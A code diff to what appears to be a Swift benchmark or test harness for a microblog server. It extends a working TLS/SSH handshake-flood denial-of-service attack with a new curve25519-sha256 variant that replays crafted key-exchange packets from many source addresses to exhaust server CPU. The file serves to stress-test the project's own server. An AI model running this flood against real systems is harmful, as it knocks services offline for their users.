@@ -5,7 +5,7 @@ import MicroblogTestSupport
 /// Key exchanges that cost the server far more than the attacker: the same first flight, made once,
 /// replayed on fresh sockets by `inFlight` threads spread over `addresses` source addresses; each reads
 /// until the server answers or closes, then resets the connection. Counted: what the server answered
-/// (TLS: a ServerHello or an alert; SSH: a KEXDH_REPLY or a disconnect), closes without an answer,
+/// (TLS: a ServerHello or an alert; SSH: a KEXDH_REPLY or KEX_ECDH_REPLY, or a disconnect), closes without an answer,
 /// timeouts and connect failures.
 struct HandshakeFlood: Attack {
     enum Kind {
@@ -15,18 +15,34 @@ struct HandshakeFlood: Attack {
         case tlsX25519
         /// SSH with only diffie-hellman-group18-sha512 (an 8192-bit modular exponentiation per connection).
         case sshGroup18
+        /// SSH with curve25519-sha256, the key exchange the server offers: an X25519 and an Ed25519
+        /// signature per connection, the most an SSH client can make the server compute before it
+        /// authenticates.
+        case sshCurve25519
+
+        var isSSH: Bool { self == .sshGroup18 || self == .sshCurve25519 }
     }
 
     let kind: Kind
     let inFlight: Int
     let addresses: Int
+    /// The attack threads under `SCHED_IDLE`: when they share a CPU with a load generator measuring
+    /// latency (`fanout --flood`), whose clock they must not hold up.
+    var idle = false
     /// How long one attempt waits for the server's answer.
     static let answerTimeout = 15.0
+    /// The outcomes counted as the server's answer: it took the key exchange up (or refused it in words).
+    static let answers: Set<String> = [
+        "server hellos", "alerts", "other answers", sshKexReply, "disconnects",
+    ]
+    static let sshKexReply = "kex replies (server computed DH)"
+    static let connectFailed = "connect failed"
+    static let timedOut = "timeouts"
 
     var needs: AttackNeeds {
         var needs = AttackNeeds()
-        needs.tls = kind != .sshGroup18
-        needs.ssh = kind == .sshGroup18
+        needs.tls = !kind.isSSH
+        needs.ssh = kind.isSSH
         return needs
     }
 
@@ -37,25 +53,26 @@ struct HandshakeFlood: Attack {
             case .tlsFFDHE: firstFlight = try TLSClientHello.make(groups: "ffdhe8192")
             case .tlsX25519: firstFlight = try TLSClientHello.make(groups: "X25519")
             case .sshGroup18: firstFlight = SSHKexInit.group18FirstFlight()
+            case .sshCurve25519: firstFlight = SSHKexInit.curve25519FirstFlight()
             }
         } catch {
             Progress.say("microblog-bench: \(error)")
             run.count("could not make the first flight")
             return
         }
-        guard let port = kind == .sshGroup18 ? target.sshPort : target.tlsPort else { return }
+        guard let port = kind.isSSH ? target.sshPort : target.tlsPort else { return }
         let sources = AttackTarget.attackerAddresses(addresses)
-        let isSSH = kind == .sshGroup18
+        let isSSH = kind.isSSH
         for index in 0..<max(1, inFlight) {
             let source = sources[index % sources.count]
-            run.spawn {
+            run.spawn(idle: idle) {
                 while run.shouldRun {
                     let outcome =
                         isSSH
                         ? Self.sshAttempt(target: target, port: port, source: source, flight: firstFlight)
                         : Self.tlsAttempt(target: target, port: port, source: source, hello: firstFlight)
                     run.count(outcome)
-                    if outcome == "connect failed" { run.pause(0.05) }
+                    if outcome == Self.connectFailed { run.pause(0.05) }
                 }
             }
         }
@@ -64,7 +81,7 @@ struct HandshakeFlood: Attack {
     /// One ClientHello on a fresh socket: what came back first.
     private static func tlsAttempt(target: AttackTarget, port: UInt16, source: String, hello: [UInt8]) -> String {
         guard let connection = try? RawConnection(target: target, port: port, source: source) else {
-            return "connect failed"
+            return connectFailed
         }
         defer { connection.reset() }
         guard connection.send(hello) else { return "closed before the hello was sent" }
@@ -77,15 +94,16 @@ struct HandshakeFlood: Attack {
             default: return "other answers"
             }
         case .closed: return "closed without answer"
-        case .timedOut: return "timeouts"
+        case .timedOut: return timedOut
         }
     }
 
-    /// One SSH key exchange on a fresh socket: the banner, then the KEXINIT and KEXDH_INIT once the
-    /// server's banner came; then its packets until a KEXDH_REPLY (31) or DISCONNECT (1), or its close.
+    /// One SSH key exchange on a fresh socket: the banner, then the KEXINIT and KEXDH_INIT (or
+    /// KEX_ECDH_INIT) once the server's banner came; then its packets until a KEXDH_REPLY or
+    /// KEX_ECDH_REPLY (both 31) or DISCONNECT (1), or its close.
     private static func sshAttempt(target: AttackTarget, port: UInt16, source: String, flight: [UInt8]) -> String {
         guard let connection = try? RawConnection(target: target, port: port, source: source) else {
-            return "connect failed"
+            return connectFailed
         }
         defer { connection.reset() }
         guard connection.send(Array("SSH-2.0-attack_1.0\r\n".utf8)) else { return "closed before the banner" }
@@ -107,7 +125,7 @@ struct HandshakeFlood: Attack {
                 while offset + 6 <= received.count {
                     let length = received[offset..<offset + 4].reduce(0) { $0 << 8 | Int($1) }
                     switch received[offset + 5] {
-                    case 31: return "kex replies (server computed DH)"
+                    case 31: return sshKexReply
                     case 1: return "disconnects"
                     default: break
                     }
@@ -117,7 +135,7 @@ struct HandshakeFlood: Attack {
             switch connection.read(deadline: deadline) {
             case .bytes(let bytes): received += bytes
             case .closed: return sentFlight ? "closed after kexinit" : "closed before kexinit"
-            case .timedOut: return "timeouts"
+            case .timedOut: return timedOut
             }
         }
     }
@@ -151,25 +169,44 @@ enum TLSClientHello {
     }
 }
 
-/// The client's unencrypted KEXINIT and KEXDH_INIT (RFC 4253 §6, §7, §8) for diffie-hellman-group18-sha512.
+/// The client's unencrypted KEXINIT and first key-exchange packet (RFC 4253 §6, §7, §8; RFC 8731 for
+/// curve25519-sha256), made once and replayed.
 enum SSHKexInit {
-    /// Both packets, to send after the banners. `e` is a fixed random 8192-bit value below group 18's
-    /// prime (its top bit cleared; the prime's top bits are all ones).
+    /// KEXINIT and KEXDH_INIT for diffie-hellman-group18-sha512. `e` is a fixed random 8192-bit value
+    /// below group 18's prime (its top bit cleared; the prime's top bits are all ones).
     static func group18FirstFlight(seed: UInt64 = 18) -> [UInt8] {
         var random = SplitMix64(seed: seed)
-        var kexinit: [UInt8] = [20]
-        kexinit += (0..<16).map { _ in UInt8(truncatingIfNeeded: random.next()) }
-        for list in [
-            "diffie-hellman-group18-sha512", "ssh-ed25519", "aes128-ctr", "aes128-ctr", "hmac-sha2-256",
-            "hmac-sha2-256", "none", "none", "", "",
-        ] {
-            kexinit += string(Array(list.utf8))
-        }
-        kexinit += [0, 0, 0, 0, 0]  // first_kex_packet_follows false, reserved 0
+        let kexinit = kexinit(keyExchange: "diffie-hellman-group18-sha512", random: &random)
         var e = (0..<1024).map { _ in UInt8(truncatingIfNeeded: random.next()) }
         e[0] = (e[0] & 0x3f) | 0x40  // below 2^8191 and without a leading zero byte: a positive mpint as is
         let kexdhInit: [UInt8] = [30] + string(e)
         return packet(kexinit, random: &random) + packet(kexdhInit, random: &random)
+    }
+
+    /// KEXINIT and KEX_ECDH_INIT for curve25519-sha256. `Q_C` is a fixed random 32 bytes: every 32-byte
+    /// string is an X25519 public key, so the server computes the shared secret and signs the exchange
+    /// hash with its host key before it can tell that the client never will.
+    static func curve25519FirstFlight(seed: UInt64 = 25519) -> [UInt8] {
+        var random = SplitMix64(seed: seed)
+        let kexinit = kexinit(keyExchange: "curve25519-sha256", random: &random)
+        let publicKey = (0..<32).map { _ in UInt8(truncatingIfNeeded: random.next()) }
+        let ecdhInit: [UInt8] = [30] + string(publicKey)
+        return packet(kexinit, random: &random) + packet(ecdhInit, random: &random)
+    }
+
+    /// A KEXINIT payload offering only `keyExchange`, host key ssh-ed25519, aes128-ctr, hmac-sha2-256 and
+    /// no compression.
+    private static func kexinit(keyExchange: String, random: inout SplitMix64) -> [UInt8] {
+        var kexinit: [UInt8] = [20]
+        kexinit += (0..<16).map { _ in UInt8(truncatingIfNeeded: random.next()) }
+        for list in [
+            keyExchange, "ssh-ed25519", "aes128-ctr", "aes128-ctr", "hmac-sha2-256", "hmac-sha2-256", "none", "none",
+            "", "",
+        ] {
+            kexinit += string(Array(list.utf8))
+        }
+        kexinit += [0, 0, 0, 0, 0]  // first_kex_packet_follows false, reserved 0
+        return kexinit
     }
 
     private static func string(_ bytes: [UInt8]) -> [UInt8] { uint32(bytes.count) + bytes }
